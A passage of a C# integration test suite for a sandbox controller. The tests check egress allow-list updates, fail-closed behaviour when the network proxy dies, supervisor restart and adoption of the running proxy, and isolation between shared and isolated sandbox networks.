                    while not os.path.exists("/tmp/go-" + step): time.sleep(0.05)
                    out.write("%s %d same=%s\n" % (step, get("/b"), c.sock is sock)); out.flush()
                EOF
                (setsid python3 /tmp/ka.py > /tmp/ka.err 2>&1 &)
                for i in $(seq 100); do grep -q first /tmp/ka.out 2>/dev/null && break; sleep 0.1; done
                """);
            await _controller.PatchAsync(name, new { egress = new { allow = new object[] { new { host = "api.test", methods = new[] { "POST" } } } } });
            await ShAsync(name, "touch /tmp/go-second; for i in $(seq 100); do grep -q second /tmp/ka.out && break; sleep 0.1; done");
            var patched = await _controller.PatchAsync(name, new { egress = new { allow = new object[] { new { host = "api.test" } } } });
            Assert.That(patched.GetProperty("network").GetProperty("egress").GetProperty("allow")[0].GetProperty("host").GetString(), Is.EqualTo("api.test"));
            var output = await ShAsync(name, "touch /tmp/go-third; for i in $(seq 100); do grep -q third /tmp/ka.out && break; sleep 0.1; done; cat /tmp/ka.out /tmp/ka.err");
            Assert.That(output.Split('\n', StringSplitOptions.RemoveEmptyEntries), Is.EqualTo(new[] { "first 200", "second 403 same=True", "third 200 same=True" }), output);
            var policy = await _controller.WaitForEventsAsync(name, e => e.Count >= 2, kind: "policy.egress");
            Assert.That(policy, Has.Count.EqualTo(2));
            await _controller.PatchAsync(name, new { egress = new { allow = new object[] { new { host = "1.2.3.4" } } } }, expectStatus: 400);
        }
        finally
        {
            await _controller.DestroyAsync(name);
        }
    }

    [Test]
    public async Task A_dead_proxy_fails_closed_and_is_restarted_within_a_second()
    {
        var name = Names.Unique("net");
        await _controller.CreateAsync(new { name, egress = new { allow = new object[] { new { host = "api.test" } } } });
        var state = _controller.StateDir(name);
        var sbxd = int.Parse(File.ReadAllText(Path.Combine(state, "sbxd.pid")).Trim(), System.Globalization.CultureInfo.InvariantCulture);
        var proxyPidFile = Path.Combine(state, "net", "sbxproxy.pid");
        var proxy = int.Parse(File.ReadAllText(proxyPidFile).Trim(), System.Globalization.CultureInfo.InvariantCulture);
        try
        {
            Assert.That((await CurlAsync(name, ("before", $"http://api.test:{_http}/")))["before"], Is.EqualTo("200 rc=0"));

            // Hold Sbxd (the supervisor) so the window without a proxy can be observed, then kill the proxy.
            await Host.RunAsync("kill", "-STOP", sbxd.ToString(System.Globalization.CultureInfo.InvariantCulture));
            try
            {
                await Host.RunAsync("kill", "-KILL", proxy.ToString(System.Globalization.CultureInfo.InvariantCulture));
                for (var i = 0; i < 100 && Directory.Exists($"/proc/{proxy}"); i++)
                {
                    await Task.Delay(20);
                }

                var during = await CurlAsync(name, ("dns", $"http://api.test:{_http}/"), ("cached", $"--resolve api.test:{_http}:10.214.0.1 http://api.test:{_http}/"));
                Assert.That(during["dns"], Does.StartWith("000 "), "no resolver: nothing resolves");
                Assert.That(during["cached"], Is.EqualTo("000 rc=7"), "no proxy: the connection is refused, nothing goes around it");
            }
            finally
            {
                await Host.RunAsync("kill", "-CONT", sbxd.ToString(System.Globalization.CultureInfo.InvariantCulture));
            }

            // A state, not a time: once the supervisor runs again, a new SbxProxy serves the sandbox.
            var watch = Stopwatch.StartNew();
            var restarted = false;
            while (!restarted && watch.Elapsed < TimeSpan.FromSeconds(60))
            {
                restarted = File.Exists(proxyPidFile) && int.TryParse(File.ReadAllText(proxyPidFile).Trim(), out var pid) && pid != proxy && Directory.Exists($"/proc/{pid}");
                await Task.Delay(restarted ? 0 : 10);
            }

            Assert.That(restarted, Is.True, "a new SbxProxy once the supervisor runs again");
            Assert.That((await CurlAsync(name, ("after", $"http://api.test:{_http}/")))["after"], Is.EqualTo("200 rc=0"));
            var lifecycle = await _controller.WaitForEventsAsync(name, e => e.Any(x => x.GetProperty("kind").GetString() == "lifecycle.sidecar_restarted"), kind: "lifecycle.sidecar_restarted");
            Assert.That(lifecycle.Any(e => e.GetRawText().Contains("sbxproxy", StringComparison.Ordinal)));
        }
        finally
        {
            await _controller.DestroyAsync(name);
        }
    }

    [Test]
    public async Task A_restarted_Sbxd_adopts_the_network_and_keeps_the_address()
    {
        var name = Names.Unique("net");
        var created = await _controller.CreateAsync(new { name, egress = new { allow = new object[] { new { host = "api.test" } } } });
        var state = _controller.StateDir(name);
        var sbxd = File.ReadAllText(Path.Combine(state, "sbxd.pid")).Trim();
        var proxy = File.ReadAllText(Path.Combine(state, "net", "sbxproxy.pid")).Trim();
        try
        {
            await Host.RunAsync("kill", "-KILL", sbxd);
            var deadline = DateTime.UtcNow.AddSeconds(30);
            string now;
            do
            {
                await Task.Delay(100);
                using var get = await _controller.Http.GetAsync($"/api/v1/hiveboxes/{name}");
                now = File.ReadAllText(Path.Combine(state, "sbxd.pid")).Trim();
            }
            while ((now == sbxd || !Directory.Exists($"/proc/{now}")) && DateTime.UtcNow < deadline);
            Assert.That(now, Is.Not.EqualTo(sbxd), "the Controller started a new Sbxd");

            var again = await _controller.WaitForEventsAsync(name, e => e.Count(x => x.GetProperty("kind").GetString() == "lifecycle.sbxd_started") >= 2, kind: "lifecycle.sbxd_started");
            Assert.That(again, Has.Count.GreaterThanOrEqualTo(2));
            var (_, detail) = await _controller.SendAsync(HttpMethod.Get, $"/api/v1/hiveboxes/{name}");
            Assert.That(detail.GetProperty("network").GetProperty("ip").GetString(), Is.EqualTo(created.GetProperty("network").GetProperty("ip").GetString()));
            Assert.That(File.ReadAllText(Path.Combine(state, "net", "sbxproxy.pid")).Trim(), Is.EqualTo(proxy), "the running proxy was adopted, not replaced");
            Assert.That((await CurlAsync(name, ("after", $"https://api.test:{_https}/")))["after"], Is.EqualTo("200 rc=0"));
        }
        finally
        {
            await DestroyAndCheckAsync(name, HostLinkOf(created));
        }
    }

    [Test]
    public async Task Shared_group_members_reach_each_other_and_no_one_else_does()
    {
        var a = Names.Unique("sh");
        var b = Names.Unique("sh");
        var c = Names.Unique("sh");
        var d = Names.Unique("iso");
        var createdA = await _controller.CreateAsync(new { name = a, network = "shared", group = "g1", expose = new[] { 8000 } });
        await _controller.CreateAsync(new { name = b, network = "shared", group = "g1" });
        await _controller.CreateAsync(new { name = c, network = "shared", group = "g2" });
        var createdD = await _controller.CreateAsync(new { name = d, network = "isolated" });
        try
        {
            Assert.That(createdA.GetProperty("network").GetProperty("group").GetString(), Is.EqualTo("g1"));
            Assert.That(createdA.GetProperty("network").GetProperty("expose").EnumerateArray().Select(p => p.GetInt32()), Is.EqualTo(new[] { 8000 }));
            await ShAsync(a, "(setsid python3 -m http.server 8000 >/dev/null 2>&1 &); for i in $(seq 50); do (echo > /dev/tcp/127.0.0.1/8000) 2>/dev/null && break; sleep 0.1; done");
            var ipA = createdA.GetProperty("network").GetProperty("ip").GetString();
            var fromB = await CurlAsync(b, ("peer", $"http://{a}.hive:8000/"), ("direct", $"http://{ipA}:8000/"));
            Assert.That(fromB["peer"], Is.EqualTo("200 rc=0"));
            Assert.That(fromB["direct"], Does.StartWith("000 "));
            Assert.That((await CurlAsync(c, ("peer", $"http://{a}.hive:8000/")))["peer"], Is.EqualTo("000 rc=6"), "another group");
            Assert.That((await CurlAsync(d, ("peer", $"http://{a}.hive:8000/")))["peer"], Does.StartWith("000 "), "an isolated sandbox");
            var events = await _controller.WaitForEventsAsync(b, e => e.Any(x => x.GetProperty("kind").GetString() == "net.tcp"), kind: "net.tcp");
            Assert.That(events.Any(e => e.GetProperty("host").GetString() == a + ".hive" && e.GetProperty("ip").GetString() == ipA && e.GetProperty("bytes_in").GetInt64() > 0));
        }
        finally
        {
            var link = HostLinkOf(createdD);
            foreach (var n in new[] { a, b, c })
            {
                await _controller.DestroyAsync(n);
            }

            await DestroyAndCheckAsync(d, link);
        }
    }
}
